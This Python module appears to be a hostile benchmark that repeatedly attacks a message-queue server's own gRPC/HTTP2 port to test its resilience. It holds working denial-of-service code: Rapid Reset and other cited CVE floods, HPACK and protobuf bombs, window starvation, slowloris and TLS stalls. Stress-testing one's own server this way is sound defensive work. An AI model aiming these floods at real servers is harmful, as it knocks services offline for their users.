"""Attacks on the port of gRPC clients, for `bench.hostile`: each is one round on one connection, and is repeated."""

from __future__ import annotations

import itertools
import random
import select
import socket
import ssl
import time
from collections import Counter
from collections.abc import Callable, Iterable
from typing import Any

from mqtemplate.grpc_protos import protos
from mqtemplate.grpc_protos.enums import ClientType
from mqtemplate.http2 import frames
from mqtemplate.http2.frames import ErrorCode, frame, rst_stream_frame, settings_frame, window_update_frame
from mqtemplate.http2.hpack import HpackDecoder, HpackEncoder, huffman_encode
from mqtemplate.message import HostAddress
from tests.http2.wire import Frame, call, changed, data, hello, parse

TOPIC, GROUP = "hostile", "hostile-grpc"
"""Both exist before the attacks; see `bench.hostile.prepare`."""

_NO_MORE = frames.END_HEADERS
_MAX_UNSENT_S = 5.0
_random = random.Random(1)


class GrpcAttacker:
    """A connection from an address of its own.

    Args:
        seen: Counts how the server answers: codes of GOAWAY and RST_STREAM, statuses, ends of the connection.
    """

    def __init__(self, address: HostAddress, number: int, seen: Counter[str]) -> None:
        self._address, self._number, self.seen = address, number, seen
        self._source = (f"127.0.1.{number}", 0)
        self.socket = socket.create_connection(address, 20.0, source_address=self._source)
        self.stream_id = -1
        self.client_id = f"hostile-{number}"
        self._rest = b""
        self._decoder = HpackDecoder(1 << 20)
        self._is_greeted = False

    def connect_again(self) -> socket.socket:
        """Open one more connection."""
        return socket.create_connection(self._address, 20.0, source_address=self._source)

    def greet(self, settings: dict[int, int] | None = None) -> None:
        """Send the start of HTTP/2, the first time."""
        if not self._is_greeted:
            self._is_greeted = True
            self.send(hello(settings), window_update_frame(0, 1 << 30))

    def next_stream(self) -> int:
        self.stream_id += 2
        return self.stream_id

    def send(self, *parts: bytes, reads: bool = True) -> None:
        """Send everything, and count what the server answers meanwhile."""
        pending = memoryview(b"".join(parts))
        late = time.monotonic() + _MAX_UNSENT_S
        self.socket.setblocking(False)
        while pending:
            readable, writable, _ = select.select([self.socket] if reads else [], [self.socket], [], 1.0)
            if readable:
                self.read()
            if writable:
                pending = pending[self.socket.send(pending) :]
            if time.monotonic() > late:
                self.seen["reads no more"] += 1
                raise ConnectionError("the server reads no more")

    def read(self, timeout_s: float = 0.0) -> list[Frame]:
        """Return the frames that have arrived, and count them."""
        if not select.select([self.socket], [], [], timeout_s)[0]:
            return []
        received = self.socket.recv(1 << 18)
        if not received:
            self.seen["connection closed"] += 1
            raise ConnectionError("the server has closed the connection")
        found, self._rest = parse(self._rest + received)
        for each in found:
            self._count(each)
        return found

    def _count(self, each: Frame) -> None:
        if each.kind == frames.GOAWAY:
            self.seen[f"GOAWAY {each.code.name}"] += 1
        elif each.kind == frames.RST_STREAM:
            self.seen[f"RST_STREAM {each.code.name}"] += 1
        elif each.kind == frames.HEADERS:
            fields = dict(self._decoder.decode(each.payload))
            if "grpc-status" in fields:
                self.seen[f"grpc-status {fields['grpc-status']}"] += 1

    def wait(self, answers: int, timeout_s: float = 2.0) -> None:
        """Read until *answers* calls are answered."""
        late = time.monotonic() + timeout_s
        while answers > 0 and time.monotonic() < late:
            answers -= sum(
                each.flags & frames.END_STREAM != 0 and each.kind in (frames.DATA, frames.HEADERS)
                for each in self.read(0.2)
            )

    def close(self) -> None:
        self.socket.close()


Attack = Callable[[GrpcAttacker, int], None]


# --- frames -----------------------------------------------------------------------------------------


def request(client: GrpcAttacker, method: str, message: bytes, *, client_id: str = "") -> bytes:
    """Return the frames of a unary call with any bytes as its message."""
    stream_id, path = client.next_stream(), protos.method_path(method)
    if len(message) < 16_000:
        return call(stream_id, path, message, x_mq_client_id=client_id or client.client_id)
    return frame(frames.HEADERS, _NO_MORE, stream_id, block(client, method)) + data_frames(stream_id, message)


def data_frames(stream_id: int, message: bytes, *, ends: bool = True) -> bytes:
    """Return a large message as DATA frames."""
    whole = prefixed(message)
    parts = [whole[at : at + 16_000] for at in range(0, len(whole), 16_000)]
    flags = [0] * (len(parts) - 1) + [frames.END_STREAM if ends else 0]
    return b"".join(data(stream_id, part, each) for part, each in zip(parts, flags, strict=True))


def start(client: GrpcAttacker, method: str, flags: int = _NO_MORE) -> bytes:
    """Return the HEADERS of a call."""
    return frame(frames.HEADERS, flags, client.next_stream(), block(client, method))


def block(client: GrpcAttacker, method: str, more: Iterable[tuple[str, str]] = ()) -> bytes:
    fields = ((":path", protos.method_path(method)), *changed(("x-mq-client-id", client.client_id), without=":path"))
    return HpackEncoder().encode((*fields, *more))


def receive(wait_s: int = 20) -> bytes:
    made = protos.ReceiveMessageRequest(batch_size=32)
    made.group.name, made.message_queue.topic.name = GROUP, TOPIC
    made.invisible_duration.seconds, made.long_polling_timeout.seconds = 10, wait_s
    return bytes(made.SerializeToString())


def message(body: bytes = b"x" * 1_024) -> Any:
    made = protos.Message(body=body)
    made.topic.name, made.system_properties.message_id = TOPIC, "hostile"
    return made


def sends(*made: Any) -> bytes:
    return bytes(protos.SendMessageRequest(messages=made).SerializeToString())


_ONE_MESSAGE = sends(message())


def settings_command(group: str = GROUP, topics: int = 1) -> bytes:
    settings = protos.Settings(client_type=ClientType.PUSH_CONSUMER)
    settings.subscription.group.name = group
    for number in range(topics):
        entry = settings.subscription.subscriptions.add()
        entry.topic.name, entry.expression.expression = f"t-{number}", "*"
    return bytes(protos.TelemetryCommand(settings=settings).SerializeToString())


def prefixed(content: bytes) -> bytes:
    return b"\0" + len(content).to_bytes(4, "big") + content


# --- floods -----------------------------------------------------------------------------------------


def rapid_reset(client: GrpcAttacker, number: int) -> None:
    """Open calls and reset them at once: CVE-2023-44487."""
    client.greet()
    for _ in range(500):
        opened = request(client, "ReceiveMessage", receive())
        client.send(opened, rst_stream_frame(client.stream_id, ErrorCode.CANCEL))


def made_you_reset(client: GrpcAttacker, number: int) -> None:
    """Make the server reset each call by an invalid frame: CVE-2025-8671."""
    client.greet()
    for _ in range(200):
        opened = request(client, "ReceiveMessage", receive())
        stream_id = client.stream_id
        faults = (
            window_update_frame(stream_id, 0),
            frame(frames.PRIORITY, 0, stream_id, bytes(4)),
            window_update_frame(stream_id, frames.MAX_WINDOW),
            data(stream_id, b"more"),
        )
        client.send(opened, faults[stream_id // 2 % len(faults)])


def _flood(kind: bytes, per_round: int = 5_000) -> Attack:
    def attack(client: GrpcAttacker, number: int) -> None:
        client.greet()
        client.send(kind * per_round)

    return attack


def continuation_flood(client: GrpcAttacker, number: int) -> None:
    """A header block without an end: CVE-2024-27316."""
    client.greet()
    client.send(start(client, "Heartbeat", 0))
    for size in (0, 1, 1_000):
        client.send(frame(frames.CONTINUATION, 0, client.stream_id, bytes(size)) * 200)


def empty_data_flood(client: GrpcAttacker, number: int) -> None:
    """Empty and padded DATA of a call that goes on."""
    client.greet()
    client.send(start(client, "Telemetry"))
    client.send(data(client.stream_id, b"", 0) * 2_500, data(client.stream_id, b"\x09" + bytes(9), 8) * 2_500)


def settings_churn(client: GrpcAttacker, number: int) -> None:
    """Change the windows of a thousand open streams again and again."""
    client.greet()
    client.send(*(start(client, "Telemetry") for _ in range(900)))
    for window in range(2_000):
        client.send(settings_frame({frames.INITIAL_WINDOW_SIZE: window}))


# --- header blocks ----------------------------------------------------------------------------------


def hpack_bomb(client: GrpcAttacker, number: int) -> None:
    """A field of 4,000 bytes in the table, and blocks of one byte for each use of it."""
    client.greet()
    client.send(
        frame(
            frames.HEADERS,
            _NO_MORE,
            client.next_stream(),
            block(client, "Telemetry") + b"\x40\x01a\x7f\xa1\x1e" + b"x" * 4_000,
        )
    )
    for _ in range(50):
        bomb = block(client, "Telemetry") + b"\xbe" * 15_000
        client.send(frame(frames.HEADERS, _NO_MORE, client.next_stream(), bomb))


def huge_headers(client: GrpcAttacker, number: int) -> None:
    """Lists of fields up to the limit and above it, in Huffman code, each another one."""
    client.greet()
    for at in range(50):
        text = "".join(_random.choices("abcdefgh01234567", k=15_000 if at % 2 else 11_000))
        coded = huffman_encode(text)
        size = len(coded) - 127
        field = b"\x00\x01b\xff" + bytes((size & 127 | 128, size >> 7)) + coded
        client.send(
            frame(frames.HEADERS, _NO_MORE, client.next_stream(), block(client, "Heartbeat") + field),
            data(client.stream_id, prefixed(b"")),
        )


def table_updates(client: GrpcAttacker, number: int) -> None:
    """Thousands of changes of the size of the table in one block."""
    client.greet()
    for _ in range(20):
        changes = (b"\x20" + b"\x3f\xe1\x1f") * 4_000
        client.send(frame(frames.HEADERS, _NO_MORE, client.next_stream(), changes + block(client, "Heartbeat")))


# --- windows and memory -----------------------------------------------------------------------------


def zero_window(client: GrpcAttacker, number: int) -> None:
    """Receive messages, and permit no byte of the answers."""
    client.greet({frames.INITIAL_WINDOW_SIZE: 0})
    client.send(*(request(client, "SendMessage", sends(message(bytes(100_000)))) for _ in range(20)))
    client.send(*(request(client, "ReceiveMessage", receive()) for _ in range(30)))
    client.read(0.1)


def data_dribble(client: GrpcAttacker, number: int) -> None:
    """Permit one byte at a time."""
    client.greet({frames.INITIAL_WINDOW_SIZE: 1})
    opened = range(client.stream_id + 2, client.stream_id + 42, 2)
    client.send(*(request(client, "SendMessage", sends(message(bytes(100_000)))) for _ in range(10)))
    client.send(*(request(client, "ReceiveMessage", receive()) for _ in range(10)))
    for _ in range(200):
        client.send(*(window_update_frame(stream_id, 1) for stream_id in opened))


def slow_reader(client: GrpcAttacker, number: int) -> None:
    """Permit everything, and read nothing."""
    client.greet({frames.INITIAL_WINDOW_SIZE: frames.MAX_WINDOW})
    client.send(*(request(client, "SendMessage", sends(message(bytes(1_000_000)))) for _ in range(5)), reads=False)
    client.send(*(request(client, "ReceiveMessage", receive()) for _ in range(200)), reads=False)
    time.sleep(0.2)


def many_streams(client: GrpcAttacker, number: int) -> None:
    """Open calls that never end, more than are allowed."""
    client.greet()
    client.send(*(start(client, "Heartbeat") + data(client.stream_id, b"\0\0\0\4\0x", 0) for _ in range(2_000)))


def held_receives(client: GrpcAttacker, number: int) -> None:
    """Receives that wait, of many clients, as many as the server takes."""
    client.greet()
    for at in range(900):
        client.send(request(client, "ReceiveMessage", receive(), client_id=f"held-{number}-{at}"))
    client.read(0.2)


def many_clients(client: GrpcAttacker, number: int) -> None:
    """Settings of many clients, with many subscriptions, which stay after the connection."""
    client.greet()
    content = settings_command(topics=10_000)
    for at in range(20):
        client.client_id = f"c-{number}-{at}"
        client.send(start(client, "Telemetry"), data_frames(client.stream_id, content, ends=False))
    client.read(0.2)


def settings_again(client: GrpcAttacker, number: int) -> None:
    """Send settings on one stream, as fast as possible."""
    client.greet()
    client.send(start(client, "Telemetry"))
    client.send(data(client.stream_id, prefixed(settings_command()) * 100, 0) * 5)


# --- messages ---------------------------------------------------------------------------------------


def oversized(client: GrpcAttacker, number: int) -> None:
    """Announce more than is allowed; then send most of what is allowed, without an end."""
    client.greet()
    client.send(start(client, "SendMessage"), data(client.stream_id, b"\0" + (1 << 31).to_bytes(4, "big"), 0))
    client.send(start(client, "SendMessage"), data(client.stream_id, b"\0" + (130 << 20).to_bytes(4, "big"), 0))
    for _ in range(60):
        client.send(data(client.stream_id, bytes(16_384), 0) * 32)


def nested_bombs(client: GrpcAttacker, number: int) -> None:
    """Messages of protobuf with hundreds of thousands of empty entries."""
    client.greet({frames.INITIAL_WINDOW_SIZE: frames.MAX_WINDOW})
    bombs = {
        "AckMessage": b"\x1a\x00" * 500_000,
        "SendMessage": b"\x0a\x00" * 4_000_000,
        "Heartbeat": b"\xf2\x07\x00" * 300_000,
    }
    for method, content in bombs.items():
        client.send(request(client, method, content))
    client.wait(3)


def compressed(client: GrpcAttacker, number: int) -> None:
    """Messages with grpc-encoding gzip, which the server does not take."""
    client.greet()
    for _ in range(200):
        head = frame(
            frames.HEADERS,
            _NO_MORE,
            client.next_stream(),
            block(client, "SendMessage", [("grpc-encoding", "gzip")]),
        )
        client.send(head, data(client.stream_id, b"\x01" + (1_000).to_bytes(4, "big") + bytes(1_000)))


def body_bombs(client: GrpcAttacker, number: int) -> None:
    """Receive bodies that another client has compressed: the server unpacks them up to its limit."""
    client.greet()
    made = protos.ReceiveMessageRequest(batch_size=32)
    made.group.name, made.message_queue.topic.name = GROUP, "bombs"
    made.invisible_duration.seconds, made.long_polling_timeout.seconds = 10, 5
    client.send(*(request(client, "ReceiveMessage", bytes(made.SerializeToString())) for _ in range(4)))
    client.wait(4, 10.0)


# --- bytes ------------------------------------------------------------------------------------------


def random_bytes(client: GrpcAttacker, number: int) -> None:
    """Anything after the start of HTTP/2."""
    client.greet()
    client.send(_random.randbytes(_random.randrange(1, 20_000)))
    client.read(0.05)


def mutated_frames(client: GrpcAttacker, number: int) -> None:
    """Valid calls with a few other bits."""
    client.greet()
    valid = bytearray(
        request(client, "SendMessage", _ONE_MESSAGE)
        + request(client, "ReceiveMessage", receive(5))
        + window_update_frame(0, 10)
    )
    for _ in range(_random.randrange(1, 4)):
        valid[_random.randrange(len(valid))] ^= 1 << _random.randrange(8)
    client.send(bytes(valid))
    client.read(0.01)


def half_open(client: GrpcAttacker, number: int) -> None:
    """Connections that send a part of the greeting and no more."""
    more = [client.connect_again() for _ in range(200)]
    for at, sock in enumerate(more):
        sock.sendall((b"P", b"PRI * HT", frames.PREFACE, hello(), b"")[at % 5])
    time.sleep(0.5)
    for sock in more:
        sock.close()


def slowloris(client: GrpcAttacker, number: int) -> None:
    """A byte now and then, on many connections."""
    more = [client.connect_again() for _ in range(100)]
    for byte in (hello() + start(client, "Heartbeat"))[:40]:
        for sock in more:
            sock.send(bytes((byte,)))
        time.sleep(0.02)
    for sock in more:
        sock.close()


def tls_stall(client: GrpcAttacker, number: int) -> None:
    """Handshakes of TLS that stop after the first record, and whole ones without a word after them."""
    more = [client.connect_again() for _ in range(50)]
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    hello_out = ssl.MemoryBIO()
    handshake = context.wrap_bio(ssl.MemoryBIO(), hello_out)
    try:
        handshake.do_handshake()
    except ssl.SSLWantReadError:
        first = hello_out.read()
    for at, sock in enumerate(more):
        sock.sendall(first[: len(first) if at % 2 else 50])
    for _ in range(20):
        with client.connect_again() as sock:
            sock.settimeout(5.0)
            context.wrap_socket(sock).close()
    for sock in more:
        sock.close()


def remoting_frames(client: GrpcAttacker, number: int) -> None:
    """Frames of the other protocol on the port of gRPC."""
    client.send((b"\0\0\1\0\0\0\0\xf0{}" + bytes(250)) * 10)
    client.read(0.1)
    raise ConnectionError("the next one")


ATTACKS: dict[str, Attack] = {
    "ping_flood": _flood(frame(frames.PING, 0, 0, bytes(8))),
    "settings_flood": _flood(settings_frame({frames.INITIAL_WINDOW_SIZE: 1})),
    "priority_flood": _flood(frame(frames.PRIORITY, 0, 1, bytes(5))),
    "unknown_frames": _flood(frame(0xEE, 0, 0, b"")),
    "goaway_flood": _flood(frame(frames.GOAWAY, 0, 0, bytes(8))),
} | {
    attack.__name__: attack
    for attack in (
        rapid_reset,
        made_you_reset,
        continuation_flood,
        empty_data_flood,
        settings_churn,
        hpack_bomb,
        huge_headers,
        table_updates,
        zero_window,
        data_dribble,
        slow_reader,
        many_streams,
        held_receives,
        many_clients,
        settings_again,
        oversized,
        nested_bombs,
        compressed,
        body_bombs,
        random_bytes,
        mutated_frames,
        half_open,
        slowloris,
        tls_stall,
        remoting_frames,
    )
}


def attack_until(name: str, address: HostAddress, place: int, is_over: Callable[[], bool], seen: Counter[str]) -> None:
    """Repeat an attack. A connection that the server closes is opened again."""
    attack, client = ATTACKS[name], None
    for number in itertools.count():
        if is_over():
            break
        try:
            client = client or GrpcAttacker(address, place, seen)
            attack(client, number)
        except OSError as exc:
            seen[type(exc).__name__] += 1
            if client is not None:
                try:
                    while client.read(0.05):  # GOAWAY may have arrived before the reset
                        pass
                except OSError:
                    pass
                client.close()
            client = None
            time.sleep(0.1)
    if client is not None:
        client.close()
